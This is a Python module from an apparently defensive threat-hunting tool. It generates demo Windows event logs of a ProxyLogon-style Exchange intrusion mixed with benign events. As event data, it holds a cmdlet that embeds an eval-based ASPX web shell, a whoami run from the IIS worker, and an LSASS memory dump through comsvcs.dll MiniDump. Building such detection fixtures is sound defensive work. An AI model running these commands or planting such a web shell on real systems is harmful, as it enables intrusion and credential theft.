"""The built-in demo case: a few Windows events of a ProxyLogon-style intrusion.

Until the scenario simulator exists, ``varde demo`` hunts this small case. The events are
written by varde in the ``evtx`` crate's JSON layout (what ``evtx_dump -o json`` prints), with
benign events around the intrusion, so the demo shows both what fires and what stays quiet.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson

HOST = "EXCH01.corp.example"
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
EXCHANGE_BIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"


def _event(record: int, when: str, provider: tuple[str, str], event_id: int, data: dict[str, Any]) -> dict:
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider[0]}},
                "EventID": event_id,
                "TimeCreated": {"#attributes": {"SystemTime": when}},
                "EventRecordID": record,
                "Channel": provider[1],
                "Computer": HOST,
            },
            "EventData": data,
        }
    }


def _process(record: int, when: str, image: str, command: str, parent: str) -> dict:
    return _event(record, when, SYSMON, 1, {
        "UtcTime": when.replace("T", " ").rstrip("Z"),
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        "User": "NT AUTHORITY\\SYSTEM",
        "IntegrityLevel": "System",
    })


def events() -> list[dict]:
    """The demo events, in time order."""
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    shell_path = f"{EXCHANGE_BIN}\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"
    cmdlet = (
        "Set-OabVirtualDirectory -ExternalUrl \"http://f/<script language=\"JScript\" runat=\"server\">"
        "function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\" -Identity \"OAB (Default Web Site)\""
    )
    return [
        _process(1001, "2021-03-03T02:10:11.000Z", "C:\\Windows\\System32\\svchost.exe",
                 "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
        _event(17, "2021-03-03T02:41:52.000Z", ("MSExchange CmdletLogs", "MSExchange Management"), 1,
               {"Data": {"#text": ["Set-OabVirtualDirectory", cmdlet.split(" ", 1)[1], "corp.example/Users/SYSTEM",
                                   "S-1-5-18", "S-1-5-18", "ECP", "4312 w3wp#MSExchangeECPAppPool"]}}),
        _event(1002, "2021-03-03T02:41:55.000Z", SYSMON, 11, {
            "Image": w3wp, "TargetFilename": shell_path, "CreationUtcTime": "2021-03-03 02:41:55.000"}),
        _process(1003, "2021-03-03T02:47:03.000Z", cmd, "cmd /c whoami", w3wp),
        _process(1004, "2021-03-03T02:49:40.000Z", "C:\\Windows\\System32\\rundll32.exe",
                 "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 C:\\ProgramData\\lsass.dmp full", cmd),
        _process(1005, "2021-03-03T08:00:00.000Z", "C:\\Windows\\System32\\notepad.exe",
                 "notepad.exe C:\\Users\\admin\\notes.txt", "C:\\Windows\\explorer.exe"),
    ]


def write_demo_evidence(folder: Path) -> Path:
    """Write the demo events as JSON lines into ``folder``; returns the file."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "EXCH01-events.jsonl"
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events()))
    return path
